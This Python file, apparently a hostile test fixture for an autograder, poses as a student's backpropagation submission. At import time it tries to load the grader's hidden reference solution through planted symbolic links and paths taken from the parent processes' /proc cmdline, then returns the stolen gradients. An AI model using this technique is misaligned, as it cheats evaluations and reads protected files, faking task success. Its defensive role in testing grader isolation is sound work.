"""HOSTILE: submits symbolic links into the grader's files and reads through them at import.

Beside this file: ref_absolute.py -> /autograder/source/reference/backprop.py, and source_link -> ../source
(from ROOT/submission that is ROOT/source, the grader's code). It imports or reads through them, also through
the grader's own submission path found in /proc; if any works it returns the reference's gradients, otherwise
zeros. The grader keeps links as links and the student's user cannot read ROOT/source: honest score 0.
"""

import importlib.util
import os

import numpy as np

_REFERENCE = None



def _ancestors():
    """Pids of this process's parent, grandparent, ... (the grader and run_autograder): /proc/PID/stat is public.

    Only our own ancestors are attacked, never other graders that happen to run on the same machine.
    """
    pids, pid = [], os.getppid()
    while pid > 1 and len(pids) < 8:
        pids.append(str(pid))
        try:
            with open(f"/proc/{pid}/stat") as f:
                pid = int(f.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
    return pids

def _paths():
    yield os.path.join(os.getcwd(), "ref_absolute.py")
    yield os.path.join(os.getcwd(), "source_link", "reference", "backprop.py")
    for pid in _ancestors():  # the grader's --submission / ROOT/submission path, where ../source resolves
        if pid.isdigit():
            try:
                with open(f"/proc/{pid}/cmdline", "rb") as f:
                    words = f.read().decode("utf-8", "replace").split("\0")
            except OSError:
                continue
            for word in words:
                if word.startswith("/") and os.path.basename(word.rstrip("/")) == "submission":
                    yield os.path.join(word, "source_link", "reference", "backprop.py")
                    yield os.path.join(word, "ref_absolute.py")


for _path in _paths():
    try:
        _spec = importlib.util.spec_from_file_location("stolen", _path)
        _module = importlib.util.module_from_spec(_spec)
        _spec.loader.exec_module(_module)
        _REFERENCE = _module
        print("read the reference through", _path)
        break
    except Exception:
        continue


def compute_gradients(z, t, W_kj, W_ji, case):
    if _REFERENCE is not None:
        return _REFERENCE.compute_gradients(z, t, W_kj, W_ji, case)
    return np.zeros_like(W_kj), np.zeros_like(W_ji)
